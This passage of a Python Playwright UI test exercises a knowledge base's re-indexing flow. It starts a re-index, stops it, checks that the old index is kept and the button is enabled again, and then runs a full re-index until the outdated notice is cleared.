            expect(page.get_by_text(outdated, exact=False)).to_be_visible(timeout=120_000)
            page.get_by_role("button", name="Re-index now").click()
            expect(page.get_by_text("re-indexing: 0 of 1 documents · shipping/", exact=False).first).to_be_visible(
                timeout=120_000
            )
            page.get_by_role("button", name="Stop re-indexing").click()
            stopped = page.get_by_text("Re-indexing stopped: the knowledge base keeps answering from its old index")
            expect(stopped).to_be_visible(timeout=300_000)
            # The page is drawn again once the job ends: the button the note names can be pressed (it was greyed).
            expect(page.get_by_role("button", name="Re-index now")).to_be_enabled(timeout=60_000)
            page.screenshot(path=str(ARTIFACTS / "documents-reindex-stopped.png"), full_page=True)
            page.reload()  # drawn again from the knowledge base itself: the old index, one document, still outdated
            count = page.get_by_text(re.compile(r"^Knowledge base 'default': 1 document · [\d,]+ chunks$"))
            expect(count).to_be_visible(timeout=60_000)
            expect(page.get_by_text(outdated, exact=False)).to_be_visible(timeout=60_000)
            page.get_by_role("button", name="Re-index now").click()
            done = page.get_by_text("Re-indexed: re-indexed 1 document: 1 read again from their files", exact=False)
            expect(done).to_be_visible(timeout=600_000)
            expect(page.get_by_text(outdated, exact=False)).to_have_count(0)
        finally:
            browser.close()
